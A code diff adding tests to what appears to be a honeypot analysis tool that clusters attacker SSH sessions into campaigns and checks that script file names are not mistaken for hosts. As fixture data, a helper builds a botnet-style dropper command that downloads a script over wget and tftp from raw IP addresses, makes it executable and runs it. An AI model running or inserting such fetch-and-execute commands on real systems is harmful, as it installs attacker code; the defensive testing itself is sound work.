@@ -260,3 +260,43 @@ def test_an_operator_rotating_through_its_24_with_its_own_client_is_one_actor() 
     found = [c for c in result.campaigns if set(own) <= set(c.source_ips)]
     assert found and found[0].verdict is Verdict.SINGLE_ACTOR_MULTI_SOURCE
     assert _merged_with(result, set(hosting)) == 0
+
+
+def _dropper(host: str, script: str) -> str:
+    return (
+        f"cd /tmp; wget http://{host}/{script}; chmod 777 {script}; sh {script}; tftp {host} -c get t{script}"
+    )
+
+
+def test_a_file_name_is_never_a_host_so_waves_with_new_script_names_stay_one_campaign() -> None:
+    """``tftp HOST -c get t.sh`` names one host; ``t.sh`` is a file, whatever its TLD-like suffix."""
+    rng = random.Random(34)
+    waves = [[random_ip(rng) for _ in range(5)] for _ in range(2)]
+    sessions = []
+    for w, (ips, script) in enumerate(zip(waves, ("update.sh", "wget.sh"), strict=True)):
+        for ip in ips:
+            s = session(ip, w * 18_000 + rng.uniform(0, 3600), logins=[("root", "123456")], success=True)
+            command = _dropper("45.141.87.19", script)
+            sessions.append(
+                s.model_copy(
+                    update={
+                        "commands": [command],
+                        "downloads": [Download(url=f"http://45.141.87.19/{script}")],
+                    }
+                )
+            )
+    result = analyze_sessions(sessions + background(rng, 40, span_s=30_000), {})
+    assert _pair_recall(result, waves[0] + waves[1]) == 1.0
+    # and two unrelated droppers fetching the same file name from their own hosts stay apart
+    other = [random_ip(rng) for _ in range(2)]
+    apart = [
+        session(
+            ip,
+            rng.uniform(0, 3600),
+            logins=[("root", "123456")],
+            success=True,
+            commands=[_dropper(host, "bins.sh")],
+        )
+        for ip, host in zip(other, ("91.92.1.10", "185.7.2.20"), strict=True)
+    ]
+    assert _merged_with(analyze_sessions(apart + background(rng, 40), {}), set(other)) == 0
